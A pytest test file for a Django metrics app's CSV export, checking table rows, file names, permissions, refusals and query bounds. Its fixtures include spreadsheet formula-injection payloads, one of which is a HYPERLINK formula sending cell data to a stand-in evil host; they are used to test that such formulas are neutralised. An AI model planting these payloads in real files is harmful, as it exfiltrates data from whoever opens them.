"""CSV export of every table on the metrics pages (issue 7, item 11): each table's CSV link
downloads that table's rows for the page's filters, with a header row and plain values; the
same permission as the page; bad filters are the page with the message and HTTP 400, no file;
a bounded number of queries; text that a spreadsheet would run as a formula is neutralised.

History: the worked example of docs/metrics.md (``tests.metrics.dora_history``).
"""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, timedelta
from decimal import Decimal
from html.parser import HTMLParser

import pytest
from django.urls import reverse

from metrics import checklists, postmortems, rollups
from metrics.csv_export import cell, csv_response, download_name
from metrics.models import DeploymentRecord, Incident, ReleaseQualityScore
from metrics.periods import Filters
from releases.models import Service, Team
from tests.factories import ReleaseFactory
from tests.metrics.dora_history import SINCE, UNTIL, at, build, record

pytestmark = pytest.mark.django_db
DELIVERY = reverse("metrics_delivery")
DASHBOARD = reverse("metrics_dashboard")
QUALITY = reverse("metrics_quality")
POSTMORTEMS = reverse("postmortem_list")
CHECKLISTS = reverse("checklist_list")
PERIOD = {"since": SINCE, "until": UNTIL}
PAYMENTS = {**PERIOD, "team": "payments"}


@pytest.fixture
def history(db):
    return build()


class _Tables(HTMLParser):
    """The text of each cell of each ``<table data-testid=...>`` (or the nth table), by row."""

    def __init__(self):
        super().__init__()
        self.tables: dict[str, list[list[str]]] = {}
        self._current = None
        self._row = None
        self._cell = None
        self._count = 0

    def handle_starttag(self, tag, attrs):
        if tag == "table":
            self._count += 1
            name = dict(attrs).get("data-testid") or f"table-{self._count}"
            self._current = self.tables.setdefault(name, [])
        elif tag == "tr" and self._current is not None:
            self._row = []
        elif tag in ("td", "th") and self._row is not None:
            self._cell = []

    def handle_endtag(self, tag):
        if tag in ("td", "th") and self._cell is not None:
            self._row.append(" ".join("".join(self._cell).split()))
            self._cell = None
        elif tag == "tr" and self._row is not None:
            self._current.append(self._row)
            self._row = None
        elif tag == "table":
            self._current = None

    def handle_data(self, data):
        if self._cell is not None:
            self._cell.append(data)


def tables(response) -> dict[str, list[list[str]]]:
    parser = _Tables()
    parser.feed(response.content.decode())
    return parser.tables


def download(client, url, params):
    response = client.get(url, params)
    assert response.status_code == 200, response.content.decode()[:500]
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment; filename=")
    body = response.content.decode()
    assert "<" not in body  # no HTML in a cell
    return list(csv.reader(io.StringIO(body)))


def link(response, testid) -> str:
    """The href of the page's CSV link, unescaped, as the browser follows it."""
    html = response.content.decode()
    start = html.index(f'data-testid="{testid}"')
    tag_start = html.rindex("<a ", 0, start)
    href = html[tag_start:].split('href="', 1)[1].split('"', 1)[0]
    return href.replace("&amp;", "&")


def follow(client, url, href):
    assert href.startswith("?")
    return client.get(f"{url}{href}")


# --- the shared writer -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("payments-api", "payments-api"),
        ("", ""),
        (None, ""),
        (True, "yes"),
        (False, "no"),
        (-1.5, -1.5),
        (3, 3),
        (Decimal("0.25"), Decimal("0.25")),
        (date(2026, 3, 2), "2026-03-02"),
        (at("03-02", "10:00"), "2026-03-02T10:00:00+00:00"),
    ],
)
def test_cells_are_plain_values_and_formulas_are_neutralised(value, shown):
    assert cell(value) == shown


def test_the_writer_puts_a_header_then_the_rows():
    response = csv_response("x.csv", ["name", "when"], [("=1+2", date(2026, 1, 2)), (None, 4)])
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert list(csv.reader(io.StringIO(response.content.decode()))) == [
        ["name", "when"],
        ["'=1+2", "2026-01-02"],
        ["", "4"],
    ]


def test_a_file_name_carries_the_scope_slugified():
    period = {"since": date(2026, 8, 31), "until": date(2026, 11, 29)}
    assert download_name("metrics", "dora", filters=Filters(**period)) == (
        "metrics-dora-2026-08-31-2026-11-29.csv"
    )
    assert download_name(
        "delivery", "trend", "week", filters=Filters(domain="Card / EU", **period)
    ) == ("delivery-trend-week-domain-card-eu-2026-08-31-2026-11-29.csv")


def test_a_team_and_a_domain_of_the_same_name_give_different_file_names():
    period = {"since": date(2026, 8, 31), "until": date(2026, 11, 29)}
    team = download_name("quality", filters=Filters(team=Team(slug="payments"), **period))
    domain = download_name("quality", filters=Filters(domain="payments", **period))
    service = download_name("quality", filters=Filters(service=Service(slug="payments"), **period))
    assert team == "quality-team-payments-2026-08-31-2026-11-29.csv"
    assert domain == "quality-domain-payments-2026-08-31-2026-11-29.csv"
    assert service == "quality-service-payments-2026-08-31-2026-11-29.csv"


def _file_name(response) -> str:
    assert response.status_code == 200, response.content.decode()[:500]
    return response["Content-Disposition"].split('filename="', 1)[1].rstrip('"')


@pytest.mark.parametrize(
    ("url", "params", "name"),
    [
        (DASHBOARD, {"table": "dora"}, f"metrics-dora-{SINCE}-{UNTIL}.csv"),
        (
            DASHBOARD,
            {"table": "dora", "team": "payments"},
            f"metrics-dora-team-payments-{SINCE}-{UNTIL}.csv",
        ),
        (
            DASHBOARD,
            {"table": "weekly", "service": "search-api"},
            f"metrics-weekly-service-search-api-{SINCE}-{UNTIL}.csv",
        ),
        (
            DELIVERY,
            {"table": "trend", "domain": "money"},
            f"delivery-trend-week-domain-money-{SINCE}-{UNTIL}.csv",
        ),
        (
            DELIVERY,
            {"table": "detail", "detail": "releases", "team": "search"},
            f"delivery-releases-team-search-{SINCE}-{UNTIL}.csv",
        ),
        (QUALITY, {"team": "payments"}, f"quality-team-payments-{SINCE}-{UNTIL}.csv"),
        (QUALITY, {"domain": "money"}, f"quality-domain-money-{SINCE}-{UNTIL}.csv"),
    ],
)
def test_csv_file_names_say_which_team_service_or_domain_they_hold(
    client, dave, history, url, params, name
):
    client.force_login(dave)
    response = client.get(url, {**PERIOD, **params, "format": "csv"})
    assert _file_name(response) == name


# --- delivery: the trend table ---------------------------------------------------------------


def test_delivery_trend_csv_is_the_trend_table_for_the_filters(client, audrey, history):
    client.force_login(audrey)
    page = client.get(DELIVERY, {**PAYMENTS, "bucket": "week"})
    shown = tables(page)["delivery-trend"][1:]
    href = link(page, "csv-trend")
    assert "team=payments" in href and f"since={SINCE}" in href and f"until={UNTIL}" in href
    rows = list(csv.reader(io.StringIO(follow(client, DELIVERY, href).content.decode())))
    assert rows[0] == [
        "from",
        "until",
        "deployments",
        "deployment_frequency_per_week",
        "lead_time_median_hours",
        "change_failure_rate",
        "time_to_restore_median_hours",
        "recovery_median_hours",
    ]
    # The same buckets, in the same order, with the same counts as the page's table.
    assert [r[:4] for r in rows[1:]] == [r[:4] for r in shown]
    # Worked example, payments only: week 1 D1-D4 (D2 failed, D4 caused I1), lead times
    # c1 24 h, c2 4 h, c3 6 h, c4 24 h (median 15), I1 restored in 3 h, D2 recovered by D3
    # in 2 h; week 2 D5-D7 (two rolled back, both recovered by D7: 5 h and 4 h).
    assert rows[1:] == [
        ["2026-03-02", "2026-03-09", "4", "3.0", "15.0", "0.5", "3.0", "2.0"],
        ["2026-03-09", "2026-03-16", "3", "1.0", "8.0", "0.6667", "", "4.5"],
    ]
    assert shown[1][5:] == ["67%", "—", "4.5"]


def test_delivery_trend_csv_by_month_and_by_domain(client, dave, history):
    client.force_login(dave)
    rows = download(
        client,
        DELIVERY,
        {**PERIOD, "domain": "discovery", "bucket": "month", "format": "csv", "table": "trend"},
    )
    assert rows[1:] == [["2026-03-02", "2026-03-16", "1", "0.5", "12.0", "0.0", "1.0", ""]]


# --- delivery: the drill-down table ----------------------------------------------------------

DETAIL_HEADERS = {
    "deployments": [
        "deployment_id",
        "external_id",
        "version",
        "service",
        "release",
        "status",
        "counts_as_failure",
        "finished_at",
        "recovered_at",
        "hours",
    ],
    "lead_time": [
        "commit",
        "service",
        "release",
        "status",
        "counts_as_failure",
        "authored_at",
        "shipped_at",
        "hours",
    ],
    "time_to_restore": [
        "incident_id",
        "title",
        "external_id",
        "service",
        "release",
        "severity",
        "counts_as_failure",
        "started_at",
        "resolved_at",
        "hours",
    ],
    "mttr": [
        "deployment_id",
        "external_id",
        "version",
        "service",
        "release",
        "status",
        "counts_as_failure",
        "detected_at",
        "recovered_at",
        "hours",
    ],
    "releases": [
        "release",
        "name",
        "version",
        "failed_deployment",
        "critical_incident",
        "successful",
    ],
}


def _detail_csv(client, page, detail):
    href = link(page, "csv-detail")
    assert f"detail={detail}" in href and "team=payments" in href
    response = follow(client, DELIVERY, href)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize(
    "detail", ["deployments", "change_failure", "recovery", "lead_time", "time_to_restore", "mttr"]
)
def test_delivery_drill_down_csv_has_the_rows_of_the_table(client, audrey, history, detail):
    client.force_login(audrey)
    page = client.get(DELIVERY, {**PAYMENTS, "detail": detail})
    shown = tables(page)["table-1"][1:]  # the drill-down (the trend table has a testid)
    rows = _detail_csv(client, page, detail)
    assert rows[0] == DETAIL_HEADERS.get(detail, DETAIL_HEADERS["deployments"])
    expected = page.context["rows"]
    assert len(rows) - 1 == len(expected) == len(shown) > 0
    for line, row, cells in zip(rows[1:], expected, shown, strict=True):
        got = dict(zip(rows[0], line, strict=True))
        assert got["service"] == row["service"] == cells[1] == "payments-api"
        assert got["release"] == (row["release"] or "")
        assert got["hours"] == ("" if row["hours"] is None else str(row["hours"]))
        assert cells[6] == ("—" if row["hours"] is None else str(row["hours"]))
        at_name = rows[0][-3]
        assert got[at_name] == row["at"].isoformat()
        assert cells[4] == row["at"].strftime("%Y-%m-%d %H:%M")
        if detail == "lead_time":
            assert got["commit"] == row["sha"]
        elif detail == "time_to_restore":
            assert got["title"] == row["title"] == cells[0]
        else:
            assert got["deployment_id"] == str(row["id"])
            assert cells[0].startswith(f"#{row['id']}")


def test_delivery_drill_down_csv_worked_example_values(client, dave, history):
    client.force_login(dave)
    lead = download(
        client, DELIVERY, {**PAYMENTS, "detail": "lead_time", "format": "csv", "table": "detail"}
    )
    by_sha = {line[0]: line for line in lead[1:]}
    assert sorted(by_sha) == ["c1", "c2", "c3", "c4", "c5"]
    assert by_sha["c3"][-3:] == ["2026-03-03T08:00:00+00:00", "2026-03-03T14:00:00+00:00", "6.0"]
    restore = download(
        client,
        DELIVERY,
        {**PERIOD, "detail": "time_to_restore", "format": "csv", "table": "detail"},
    )
    assert [(line[1], line[5], line[-1]) for line in restore[1:]] == [
        ("I2", "medium", "1.0"),
        ("I1", "critical", "3.0"),
    ]
    failed = download(
        client,
        DELIVERY,
        {**PAYMENTS, "detail": "change_failure", "format": "csv", "table": "detail"},
    )
    assert sorted(line[5] for line in failed[1:]) == [
        "failed",
        "rolled_back",
        "rolled_back",
        "succeeded",  # D4: an incident attributed
    ]
    assert {line[6] for line in failed[1:]} == {"yes"}


def test_delivery_releases_csv_lists_every_release_not_only_the_page(client, dave, history):
    client.force_login(dave)
    page = client.get(DELIVERY, {**PAYMENTS, "detail": "releases"})
    shown = tables(page)["table-1"][1:]
    rows = _detail_csv(client, page, "releases")
    assert rows[0] == DETAIL_HEADERS["releases"]
    keys = [r.key for r in page.context["rows"]]
    assert [line[0] for line in rows[1:]] == keys
    assert [cells[0].split()[0] for cells in shown] == keys
    r = history["r"]
    by_name = {line[1]: line for line in rows[1:]}
    assert sorted(by_name) == ["R1", "R2", "R3", "R4"]
    assert by_name["R1"][3:] == ["no", "no", "yes"]
    assert by_name["R2"][3:] == ["yes", "no", "no"]
    assert by_name["R3"][3:] == ["no", "yes", "no"]
    assert by_name["R4"][0] == r[4].key


def test_a_release_named_like_a_formula_is_neutralised(client, dave, history):
    r1 = history["r"][1]
    r1.name = '=HYPERLINK("http://evil.example/?"&A1,"R1")'
    r1.save()
    client.force_login(dave)
    rows = download(
        client, DELIVERY, {**PAYMENTS, "detail": "releases", "format": "csv", "table": "detail"}
    )
    names = [line[1] for line in rows[1:]]
    assert "'" + r1.name in names
    assert not any(name.startswith("=") for name in names)


# --- delivery: refusals ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("params", "words"),
    [
        ({"since": "2026-03-10", "until": "2026-03-01", "table": "trend"}, "before it starts"),
        ({"team": "ghosts", "table": "trend"}, "No team &#x27;ghosts&#x27;"),
        ({"team": "ghosts", "detail": "releases", "table": "detail"}, "No team"),
        ({"detail": "vibes", "table": "detail"}, "detail: &#x27;vibes&#x27; is not one of"),
        ({"bucket": "decade", "table": "trend"}, "bucket: &#x27;decade&#x27; is not one of"),
        ({"bucket": "decade", "detail": "mttr", "table": "detail"}, "bucket: &#x27;decade"),
        ({"table": "secrets"}, "table: &#x27;secrets&#x27; is not one of trend, detail."),
        ({}, "table: &#x27;&#x27; is not one of trend, detail."),
        ({"table": "detail"}, "detail: choose the figure whose rows to download"),
    ],
)
def test_bad_filters_give_the_page_with_the_message_and_no_file(
    client, dave, history, params, words
):
    client.force_login(dave)
    response = client.get(DELIVERY, {**params, "format": "csv"})
    assert response.status_code == 400
    assert "Content-Disposition" not in response
    assert response["Content-Type"].startswith("text/html")
    html = response.content.decode()
    assert 'data-testid="delivery-errors"' in html
    assert words in html


@pytest.mark.parametrize(
    ("url", "params"),
    [
        (DELIVERY, {"format": "csv", "table": "trend"}),
        (DELIVERY, {"format": "csv", "table": "detail", "detail": "releases"}),
        (DASHBOARD, {"format": "csv", "table": "weekly"}),
        (DASHBOARD, {"format": "csv", "table": "dora"}),
        (QUALITY, {"format": "csv"}),
    ],
)
def test_csv_needs_the_page_permission(client, nobody, history, url, params):
    anonymous = client.get(url, params)
    assert anonymous.status_code == 302
    assert anonymous["Location"].startswith(reverse("login"))
    client.force_login(nobody)
    refused = client.get(url, params)
    assert refused.status_code == 403
    assert "Content-Disposition" not in refused


def _more_history(history, n=40):
    for i in range(n):
        record(
            history["pay"],
            history["prod"],
            "failed" if i % 2 else "succeeded",
            at("03-06", f"{i % 24:02d}:{i:02d}"),
            history["r"][1 + i % 4],
            commits=[(f"m{i}", at("03-05"))],
        )


@pytest.mark.parametrize(
    "params",
    [
        {"table": "trend"},
        {"table": "detail", "detail": "deployments"},
        {"table": "detail", "detail": "lead_time"},
        {"table": "detail", "detail": "time_to_restore"},
        {"table": "detail", "detail": "recovery"},
        {"table": "detail", "detail": "mttr"},
        {"table": "detail", "detail": "releases"},
    ],
)
def test_delivery_csv_queries_do_not_grow_with_the_rows(
    client, audrey, history, params, django_assert_max_num_queries
):
    client.force_login(audrey)
    query = {**PAYMENTS, "format": "csv", **params}
    with django_assert_max_num_queries(30) as few:
        before = download(client, DELIVERY, query)
    _more_history(history)
    with django_assert_max_num_queries(len(few.captured_queries)):
        after = download(client, DELIVERY, query)
    if params["table"] == "detail" and params["detail"] in ("deployments", "lead_time"):
        assert len(after) == len(before) + 40


# --- the dashboard (/metrics/) ----------------------------------------------------------------


def _rolled_up(history):
    rollups.rebuild(date(2026, 3, 2) + timedelta(days=i) for i in range(14))
    return history


def test_dashboard_tables_and_their_csv_have_the_same_rows(client, dave, history):
    _rolled_up(history)
    client.force_login(dave)
    page = client.get(DASHBOARD, PAYMENTS)
    shown = tables(page)
    weekly = follow(client, DASHBOARD, link(page, "csv-weekly"))
    rows = list(csv.reader(io.StringIO(weekly.content.decode())))
    assert rows[0][:7] == [
        "week",
        "deployments",
        "succeeded",
        "failed",
        "rolled_back",
        "change_failure_rate",
        "incidents",
    ]
    assert [line[:5] for line in rows[1:]] == [cells[:5] for cells in shown["weekly-table"][1:]]
    assert [line[:5] for line in rows[1:]] == [
        ["2026-03-02", "4", "3", "1", "0"],
        ["2026-03-09", "3", "1", "0", "2"],
    ]
    dora = list(
        csv.reader(io.StringIO(follow(client, DASHBOARD, link(page, "csv-dora")).content.decode()))
    )
    assert dora[0] == ["metric", "unit", "value_or_median", "p90"]
    assert [line[0] for line in dora[1:]] == [cells[0] for cells in shown["dora-table"][1:]]
    assert dora[1] == ["Deployments", "count", "7", ""]
    points = follow(client, DASHBOARD, link(page, "csv-points"))
    assert "team=payments" in link(page, "csv-points")
    assert points.content.decode().splitlines()[0] == "team,week,deployments,incidents"


@pytest.mark.parametrize(
    ("params", "words"),
    [
        ({"team": "ghosts", "table": "weekly"}, "No team &#x27;ghosts&#x27;"),
        ({"since": "2026-04-01", "until": "2026-03-01", "table": "dora"}, "before it starts"),
        ({"table": "secrets"}, "is not one of dora, weekly, points"),
    ],
)
def test_dashboard_bad_filters_give_no_file(client, dave, history, params, words):
    client.force_login(dave)
    response = client.get(DASHBOARD, {**params, "format": "csv"})
    assert response.status_code == 400
    assert "Content-Disposition" not in response
    assert words in response.content.decode()


@pytest.mark.parametrize("table", ["dora", "weekly", "points"])
def test_dashboard_csv_queries_do_not_grow_with_the_rows(
    client, dave, history, table, django_assert_max_num_queries
):
    _rolled_up(history)
    client.force_login(dave)
    query = {**PERIOD, "format": "csv", "table": table}
    with django_assert_max_num_queries(30) as few:
        download(client, DASHBOARD, query)
    _more_history(history)
    _rolled_up(history)
    with django_assert_max_num_queries(len(few.captured_queries)):
        download(client, DASHBOARD, query)


# --- release quality (/metrics/quality/) ------------------------------------------------------


def _scores(history):
    for n, score in ((1, 90), (3, 40), (5, 100)):
        release = history["r"][n]
        finished = DeploymentRecord.objects.filter(release=release, is_production=True).latest(
            "finished_at"
        )
        ReleaseQualityScore.objects.create(
            release=release,
            score=score,
            components=[{"code": "incidents", "label": "Incidents", "deducted": 100 - score}],
            deployed_at=finished.finished_at,
            computed_at=finished.finished_at,
        )


def test_quality_csv_is_the_table_for_the_filters_and_neutralises_names(client, audrey, history):
    history["r"][3].name = "@evil"
    history["r"][3].save()
    _scores(history)
    client.force_login(audrey)
    page = client.get(QUALITY, PAYMENTS)
    shown = tables(page)["quality-table"][1:]
    href = link(page, "quality-csv")
    rows = list(csv.reader(io.StringIO(follow(client, QUALITY, href).content.decode())))
    assert rows[0] == [
        "release",
        "name",
        "version",
        "deployed_at",
        "score",
        "tickets_deducted",
        "incidents_deducted",
        "kpi_breaches_deducted",
        "feedback_deducted",
        "production_failures_deducted",
    ]
    assert [line[0] for line in rows[1:]] == [cells[0].split()[0] for cells in shown]
    r = history["r"]
    zero = ["0", "0", "0"]
    assert rows[1:] == [
        [r[3].key, "'@evil", r[3].version, "2026-03-05T09:00:00+00:00", "40", "0", "60", *zero],
        [r[1].key, "R1", r[1].version, "2026-03-02T10:00:00+00:00", "90", "0", "10", *zero],
    ]


def test_quality_csv_queries_do_not_grow_with_the_rows(
    client, audrey, history, django_assert_max_num_queries
):
    _scores(history)
    client.force_login(audrey)
    with django_assert_max_num_queries(30) as few:
        download(client, QUALITY, {**PERIOD, "format": "csv"})
    # Fresh releases deployed and scored in the period (one score per release).
    for i in range(20):
        release = ReleaseFactory(name=f"extra {i}")
        record(history["pay"], history["prod"], "succeeded", at("03-07", f"{i:02d}:00"), release)
        ReleaseQualityScore.objects.create(
            release=release,
            score=70,
            components=[],
            deployed_at=at("03-07", f"{i:02d}:00"),
            computed_at=at("03-07", f"{i:02d}:00"),
        )
    with django_assert_max_num_queries(len(few.captured_queries)):
        rows = download(client, QUALITY, {**PERIOD, "format": "csv"})
    assert len(rows) == 1 + 3 + 20


def test_every_csv_timestamp_is_utc_iso(client, dave, history):
    client.force_login(dave)
    rows = download(
        client, DELIVERY, {**PERIOD, "detail": "deployments", "format": "csv", "table": "detail"}
    )
    for line in rows[1:]:
        assert datetime.fromisoformat(line[7]).utcoffset() == timedelta(0)


# --- post-mortems and checklists (/metrics/post-mortems/, /metrics/checklists/) ---------------


def _postmortem(alice, service, title, severity="high"):
    incident = Incident(title=title, service=service, severity=severity, started_at=at("03-05"))
    incident.save_with_reason("test")
    return postmortems.create_postmortem(alice, title, incident=incident)


@pytest.fixture
def reviews(alice, history):
    checkout = _postmortem(alice, history["pay"], "Checkout outage", "critical")
    postmortems.add_factor(alice, checkout, "process", "No canary for the payment path", [])
    search = _postmortem(alice, history["search"], "+Search down")  # formula-like title
    postmortems.set_status(alice, search, "in_review")
    return {"checkout": checkout, "search": search}


def test_post_mortem_csv_is_the_list_for_its_filters(client, alice, reviews):
    client.force_login(alice)
    page = client.get(POSTMORTEMS, {"team": "payments"})
    shown = tables(page)["postmortem-table"][1:]
    href = link(page, "csv-postmortems")
    assert "team=payments" in href and "format=csv" in href
    rows = list(csv.reader(io.StringIO(follow(client, POSTMORTEMS, href).content.decode())))
    assert rows[0] == [
        "post_mortem",
        "title",
        "release",
        "incident",
        "incident_severity",
        "status",
        "facilitator",
        "factors",
        "open_actions",
        "created",
    ]
    pm = reviews["checkout"]
    assert [line[0] for line in rows[1:]] == [cells[0].split(":")[0] for cells in shown]
    assert rows[1:] == [
        [
            f"PM-{pm.pk}",
            "Checkout outage",
            "",
            f"INC-{pm.incident.pk}",
            "critical",
            pm.status,
            pm.facilitator.username if pm.facilitator else "",
            "1",
            "0",
            pm.created.isoformat(),
        ]
    ]
    everyone = download(client, POSTMORTEMS, {"format": "csv"})
    assert sorted(line[1] for line in everyone[1:]) == ["'+Search down", "Checkout outage"]
    in_review = download(client, POSTMORTEMS, {"status": "in_review", "format": "csv"})
    assert [line[1] for line in in_review[1:]] == ["'+Search down"]


def test_post_mortem_csv_refusals_and_permission(client, alice, nobody, reviews):
    client.force_login(alice)
    bad = client.get(POSTMORTEMS, {"since": "2026-05-01", "until": "2026-04-01", "format": "csv"})
    assert bad.status_code == 400
    assert "Content-Disposition" not in bad
    assert "end of the period must be after its start" in bad.content.decode()
    unknown = client.get(POSTMORTEMS, {"team": "ghosts", "format": "csv"})
    assert unknown.status_code == 400 and "Content-Disposition" not in unknown
    client.force_login(nobody)
    refused = client.get(POSTMORTEMS, {"format": "csv"})
    assert refused.status_code == 403 and "Content-Disposition" not in refused


def test_post_mortem_csv_queries_do_not_grow(
    client, alice, history, reviews, django_assert_max_num_queries
):
    client.force_login(alice)
    with django_assert_max_num_queries(12) as few:
        download(client, POSTMORTEMS, {"format": "csv"})
    for n in range(15):
        _postmortem(alice, history["pay"], f"PM {n}")
    with django_assert_max_num_queries(len(few.captured_queries)):
        rows = download(client, POSTMORTEMS, {"format": "csv"})
    assert len(rows) == 1 + 2 + 15


def test_checklist_csv_is_the_list(client, alice, nobody, django_assert_max_num_queries):
    items = [{"key": "smoke", "text": "Smoke tests green"}]
    checklists.create_template(alice, "Production deployment", "prod", "production", items)
    client.force_login(alice)
    page = client.get(CHECKLISTS)
    shown = tables(page)["checklist-table"][1:]
    with django_assert_max_num_queries(10) as few:
        rows = list(
            csv.reader(
                io.StringIO(
                    follow(client, CHECKLISTS, link(page, "csv-checklists")).content.decode()
                )
            )
        )
    assert rows[0] == ["name", "slug", "scope", "current_version", "runs", "updated"]
    assert [line[:3] for line in rows[1:]] == [["Production deployment", "prod", "production"]]
    assert rows[1][3:5] == ["1", "0"]
    assert shown[0][0] == "Production deployment prod"
    for n in range(5):
        checklists.create_template(alice, f"Checklist {n}", f"c{n}", "production", items)
    with django_assert_max_num_queries(len(few.captured_queries)):
        assert len(download(client, CHECKLISTS, {"format": "csv"})) == 1 + 6
    client.force_login(nobody)
    assert client.get(CHECKLISTS, {"format": "csv"}).status_code == 403
